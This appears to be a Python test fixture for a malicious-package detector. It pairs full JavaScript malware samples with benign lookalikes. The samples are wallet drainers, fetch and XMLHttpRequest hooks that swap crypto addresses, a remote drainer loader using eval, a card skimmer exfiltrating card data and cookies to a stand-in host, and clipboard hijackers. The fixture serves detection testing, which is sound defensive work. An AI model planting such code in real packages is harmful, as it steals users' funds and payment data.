"""What runs in pages: addresses of wallets that are exchanged, prompts that empty them, what visitors type."""

# ruff: noqa: E501 - a file of a package reads as it is written

from tests.attacks.case import Attack

_NEAREST = """
            function distance(a, b) {
              const rows = Array.from({ length: a.length + 1 }, (_, at) => [at]);
              for (let at = 1; at <= b.length; at++) rows[0][at] = at;
              for (let i = 1; i <= a.length; i++)
                for (let j = 1; j <= b.length; j++)
                  rows[i][j] = Math.min(rows[i - 1][j] + 1, rows[i][j - 1] + 1, rows[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
              return rows[a.length][b.length];
            }
"""

BROWSER = (
    Attack("chalk and debug: addresses exchanged for the most similar of a list", "STEAL-001", "import", {
        "package.json": '"main": "source/index.js"',
        "source/index.js": _NEAREST + """
            const own = {
              ethereum: ["0x1111111111111111111111111111111111111111", "0x2222222222222222222222222222222222222222"],
              bitcoin: ["1FakeFakeFakeFakeFakeFakeFakeFake1", "1FakeFakeFakeFakeFakeFakeFakeFake2"],
            };
            const shapes = { ethereum: /\\b0x[a-fA-F0-9]{40}\\b/g, bitcoin: /\\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\\b/g };
            function nearest(address, list) {
              return list.reduce((best, one) => (distance(address, one) < distance(address, best) ? one : best), list[0]);
            }
            function exchange(text) {
              for (const chain of Object.keys(shapes)) text = text.replace(shapes[chain], (found) => nearest(found, own[chain]));
              return text;
            }
            if (typeof window !== "undefined" && typeof window.ethereum !== "undefined") {
              const asked = window.fetch;
              window.fetch = async function (...args) {
                const answer = await asked.apply(this, args);
                return new Response(exchange(await answer.clone().text()), { status: answer.status, headers: answer.headers });
              };
              const request = window.ethereum.request;
              window.ethereum.request = async function (call) {
                if (call.method === "eth_sendTransaction") call.params[0].to = "0x3333333333333333333333333333333333333333";
                return request.call(this, call);
              };
            }
            export default function chalk(text) { return "\\u001b[1m" + text + "\\u001b[22m"; }
        """,
    }, {
        "source/index.js": _NEAREST + """
            const words = ["bold", "underline", "inverse"];
            function nearest(word, list) {
              return list.reduce((best, one) => (distance(word, one) < distance(word, best) ? one : best), list[0]);
            }
            if (typeof window !== "undefined") {
              const asked = window.fetch;
              window.fetch = async function (...args) {
                performance.mark("fetch");
                return asked.apply(this, args);
              };
            }
            export default function chalk(text, style) { return nearest(style, words) + text; }
        """,
    }),
    Attack("chalk and debug, of requests: XMLHttpRequest hands out other addresses", "STEAL-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            var own = ["TFakeFakeFakeFakeFakeFakeFakeFake1", "0x1111111111111111111111111111111111111111"];
            function exchange(text) {
              return String(text).replace(/T[1-9A-HJ-NP-Za-km-z]{33}/g, own[0]).replace(/0x[a-fA-F0-9]{40}/g, own[1]);
            }
            if (typeof XMLHttpRequest !== "undefined") {
              var send = XMLHttpRequest.prototype.send;
              XMLHttpRequest.prototype.send = function (body) {
                return send.call(this, typeof body === "string" ? exchange(body) : body);
              };
            }
            exports.debug = function (name) { return function (text) { console.log(name, text); }; };
        """,
    }, {
        "index.js": """
            function clean(text) {
              return String(text).replace(/\\s+/g, " ").replace(/0x[a-fA-F0-9]{40}/g, "address");
            }
            if (typeof XMLHttpRequest !== "undefined") {
              var send = XMLHttpRequest.prototype.send;
              XMLHttpRequest.prototype.send = function (body) {
                console.debug(clean(body));
                return send.call(this, body);
              };
            }
            exports.debug = function (name) { return function (text) { console.log(name, text); }; };
        """,
    }),
    Attack("lottie-player: a prompt to connect a wallet, which is then emptied", "STEAL-001", "import", {
        "package.json": '"main": "dist/player.js"',
        "dist/player.js": """
            customElements.define("demo-player", class extends HTMLElement {});
            (async function () {
              const [account] = await window.ethereum.request({ method: "eth_requestAccounts" });
              const balance = await window.ethereum.request({ method: "eth_getBalance", params: [account, "latest"] });
              await fetch("https://relay.example.invalid/connect", { method: "POST", body: JSON.stringify({ account, balance }) });
              await window.ethereum.request({
                method: "eth_sendTransaction",
                params: [{ from: account, to: "0x1111111111111111111111111111111111111111", value: balance }],
              });
            })();
        """,
    }, {
        "dist/player.js": """
            customElements.define("demo-player", class extends HTMLElement {});
            export async function connect() {
              const [account] = await window.ethereum.request({ method: "eth_requestAccounts" });
              return account;
            }
            export async function pay(to, value) {
              const from = await connect();
              return window.ethereum.request({ method: "eth_sendTransaction", params: [{ from, to, value }] });
            }
        """,
    }),
    Attack("Ledger connect kit: a drainer loaded from elsewhere into the page", "FETCH-001", "import", {
        "package.json": '"main": "dist/index.js"',
        "dist/index.js": """
            const address = "https://kit.example.invalid/drainer.js";
            (async () => {
              const text = await (await fetch(address)).text();
              const script = document.createElement("script");
              script.text = text;
              document.head.appendChild(script);
              (0, eval)(text);
            })();
            export const connect = () => window.ethereum;
        """,
    }, {
        "dist/index.js": """
            const address = "https://kit.example.invalid/icons.svg";
            export const icons = async () => {
              const text = await (await fetch(address)).text();
              const place = document.createElement("div");
              place.textContent = text;
              document.head.appendChild(place);
            };
            export const connect = () => window.ethereum;
        """,
    }),
    Attack("Solana drainers: all of a wallet signed away", "STEAL-001", "import", {
        "package.json": '"main": "index.js", "dependencies": {"@solana/web3.js": "^1.0.0"}',
        "index.js": """
            const { Connection, PublicKey, SystemProgram, Transaction } = require("@solana/web3.js");
            const thief = new PublicKey("FakeFakeFakeFakeFakeFakeFakeFakeFakeFakeFak1");
            window.addEventListener("load", async () => {
              const { publicKey } = await window.solana.connect();
              const connection = new Connection("https://rpc.example.invalid");
              const lamports = await connection.getBalance(publicKey);
              const all = new Transaction().add(SystemProgram.transfer({ fromPubkey: publicKey, toPubkey: thief, lamports: lamports - 5000 }));
              await window.solana.signAndSendTransaction(all);
            });
        """,
    }, {
        "index.js": """
            const { PublicKey, SystemProgram, Transaction } = require("@solana/web3.js");
            exports.pay = async (to, lamports) => {
              const { publicKey } = await window.solana.connect();
              const one = new Transaction().add(SystemProgram.transfer({ fromPubkey: publicKey, toPubkey: new PublicKey(to), lamports }));
              return window.solana.signAndSendTransaction(one);
            };
        """,
    }),
    Attack("card skimmers: what visitors type leaves in a picture's address", "EXFIL-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            document.addEventListener("submit", () => {
              const number = document.querySelector("input[name=cardnumber]").value;
              const code = document.querySelector("input[name=cvc]").value;
              new Image().src = "https://stats.example.invalid/p.gif?d=" + btoa(JSON.stringify({ number, code, c: document.cookie }));
            });
        """,
    }, {
        "index.js": """
            exports.count = () => {
              const page = location.pathname;
              new Image().src = "https://stats.example.invalid/p.gif?d=" + btoa(JSON.stringify({ page, width: screen.width }));
            };
        """,
    }),
    Attack("clipboard hijackers: a copied address becomes another's", "STEAL-001", "import", {
        "package.json": '"main": "index.js", "dependencies": {"clipboardy": "^2.0.0"}',
        "index.js": """
            const clipboardy = require("clipboardy");
            setInterval(() => {
              const text = clipboardy.readSync();
              if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(text)) clipboardy.writeSync("1FakeFakeFakeFakeFakeFakeFakeFake1");
              if (/^0x[a-fA-F0-9]{40}$/.test(text)) clipboardy.writeSync("0x1111111111111111111111111111111111111111");
            }, 1000);
        """,
    }, {
        "index.js": """
            const clipboardy = require("clipboardy");
            exports.trim = () => {
              const text = clipboardy.readSync();
              if (/^0x[a-fA-F0-9]{40}$/.test(text)) clipboardy.writeSync(text.toLowerCase());
            };
        """,
    }),
    Attack("clipboard hijackers in a page: what is copied is exchanged", "STEAL-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            document.addEventListener("copy", async () => {
              const text = await navigator.clipboard.readText();
              if (/^0x[a-fA-F0-9]{40}$/.test(text)) await navigator.clipboard.writeText("0x1111111111111111111111111111111111111111");
            });
        """,
    }, {
        "index.js": """
            export async function copy(element) {
              await navigator.clipboard.writeText(element.textContent.trim());
            }
        """,
    }),
)  # fmt: skip
